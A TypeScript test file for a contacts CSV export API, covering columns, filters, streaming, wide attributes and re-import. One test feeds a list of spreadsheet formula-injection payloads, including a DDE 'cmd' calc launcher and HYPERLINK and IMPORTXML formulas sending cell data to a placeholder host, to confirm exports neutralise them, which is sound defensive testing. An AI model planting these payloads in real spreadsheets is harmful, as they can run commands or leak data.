import { beforeAll, describe, expect, test } from 'vitest'
import { addressBook, numbersFrom } from '../../../../tests/support/contacts/contacts.ts'
import { newVendor, startProduct, type TestProduct } from '../../../../tests/support/product.ts'
import { cellsOf } from '../../../../tests/support/tables/csv-cells.ts'

let product: TestProduct
beforeAll(async () => {
  product = await startProduct()
})

const newMobile = numbersFrom(60_000_000)
type Who = { token: string }
const bulk = (contacts: object[], who: Who) => product.post('/contacts/bulk', contacts, { token: who.token })
const exported = (who: Who, query = '') => product.get(`/contacts/export${query}`, { token: who.token })

const FORMULAS = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1,"y")'],
  ...[
    "'=1",
    "''=1",
    "'+1",
    '-2+3+cmd|x',
    '+-1',
    '=',
    '+',
    '-',
    '@',
    '@x',
    '=“x”',
    '-@x',
    '=1\n=2',
    '"=1"',
    '=a,b',
    '=a;b',
  ],
  ...['=1|2', "'", "'x", '=IMPORTXML(CONCAT("http://x"),"//a")', '-SUM(1,2)', '@"x"', '+91 98765 43210'],
]

describe('an export', () => {
  test('has a row for each contact and a column for each attribute', async () => {
    const vendor = await newVendor(product)
    const [one, two] = [newMobile(), newMobile()]
    await bulk(
      [{ mobile: one, name: 'Rao, "Asha"', labels: ['VIP', 'Delhi'], attributes: { Zone: 'N', City: 'Pune' } }],
      vendor,
    )
    await bulk([{ mobile: two, attributes: { Age: '7' } }], vendor)
    const { status, body, headers } = await exported(vendor)
    expect(status).toBe(200)
    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(headers['content-disposition']).toMatch(/^attachment; filename="contacts-\d{4}-\d\d-\d\d\.csv"$/)
    expect(cellsOf(body)).toEqual([
      ['Name', 'Phone', 'Country', 'Labels', 'Age', 'City', 'Zone'],
      ['Rao, "Asha"', `'+${one}`, 'IN', 'VIP, Delhi', '', 'Pune', 'N'],
      ['', `'+${two}`, 'IN', '', '7', '', ''],
    ])
  })

  test('of a label or a list has only those contacts and their columns', async () => {
    const vendor = await newVendor(product)
    await bulk([{ mobile: newMobile(), name: 'In', labels: ['x'], attributes: { A: '1' } }], vendor)
    await bulk([{ mobile: newMobile(), name: 'Out', attributes: { B: '1' } }], vendor)
    const list = await product.post('/contact-lists', { name: 'l', labels: ['x'] }, { token: vendor.token })
    for (const query of ['?label=X', `?listId=${list.body.id}`])
      expect(cellsOf((await exported(vendor, query)).body).map(([name]) => name)).toEqual(['Name', 'In'])
    expect((await exported(vendor, '?label=x')).body).not.toContain('B')
    expect((await exported(vendor, '?search=x')).status).toBe(400)
  })

  test('without contacts is a header', async () => {
    expect((await exported(await newVendor(product))).body).toBe('Name,Phone,Country,Labels\r\n')
  })

  test('contains no cell that a spreadsheet would run as a formula', async () => {
    const vendor = await newVendor(product)
    expect(FORMULAS.length).toBeGreaterThanOrEqual(30)
    const contacts = FORMULAS.map((text) => ({
      mobile: newMobile(),
      name: text,
      labels: [text],
      attributes: { [`=${text.replace(/\p{Cc}/gu, '')}`]: text, value: text },
    }))
    expect((await bulk(contacts, vendor)).body.failed).toEqual([])
    const cells = cellsOf((await exported(vendor)).body).flat()
    expect(cells.length).toBeGreaterThan(30 * 30)
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
  })

  test('streams more contacts than one batch, each once', async () => {
    const vendor = await newVendor(product)
    const mobiles = Array.from({ length: 4_001 }, newMobile)
    await bulk(
      mobiles.map((mobile) => ({ mobile })),
      vendor,
    )
    const [, ...rows] = cellsOf((await exported(vendor)).body)
    expect(rows.map(([, phone]) => phone).sort()).toEqual(mobiles.map((mobile) => `'+${mobile}`).sort())
  })

  test('has a column for as many attributes as a file may have columns; the rarest share the last one', async () => {
    const vendor = await newVendor(product)
    const [wide, other, common] = [newMobile(), newMobile(), newMobile()]
    const attributes = (from: number, count: number) =>
      Object.fromEntries(Array.from({ length: count }, (_, i) => [`a${from + i}`, `${i}`]))
    const contacts = [
      { mobile: wide, attributes: attributes(0, 900) },
      { mobile: other, attributes: { ...attributes(900, 400), zone: 'N' } },
      { mobile: common, attributes: { zone: 'S' } },
    ]
    expect((await bulk(contacts, vendor)).body.created).toBe(3)
    const [header = [], ...rows] = cellsOf((await exported(vendor)).body)
    expect(header.length).toBeLessThanOrEqual(1_000)
    expect(header).toContain('zone')
    expect(header.at(-1)).toBe('Other attributes')
    const read = rows.map((cells) => ({
      ...Object.fromEntries(
        header
          .map((name, i) => [name, cells[i]])
          .slice(4, -1)
          .filter(([, cell]) => cell !== ''),
      ),
      ...JSON.parse(cells.at(-1) || '{}'),
    }))
    expect(read).toEqual(contacts.map((contact) => contact.attributes))
    expect((await exported(vendor, '?countryCode=ES')).body).toBe('Name,Phone,Country,Labels\r\n')
  })

  test('can be imported again as the same contacts', async () => {
    const [from, to] = [await newVendor(product), await newVendor(product)]
    const contacts = FORMULAS.map((text, i) => ({
      mobile: newMobile(),
      name: text.replace(/[\p{Cc}]/gu, ''),
      labels: [`label ${i % 3}`, '=formula'],
      attributes: { [`-${i % 5}`]: text, City: `Pune\n${i}, "quoted"`, Empty: '' },
    }))
    await bulk(contacts, from)
    const csv = (await exported(from)).body
    const { body } = await product.call('POST', '/contacts/bulk', csv, {
      token: to.token,
      headers: { 'content-type': 'text/csv' },
    })
    expect(body).toEqual({ created: contacts.length, updated: 0, unchanged: 0, failed: [] })
    const content = async (who: Who) =>
      (await addressBook(product, who)).map(({ name, mobile, countryCode, labels, attributes }) => [
        name,
        mobile,
        countryCode,
        labels,
        attributes,
      ])
    expect(await content(to)).toEqual(await content(from))
  })
})
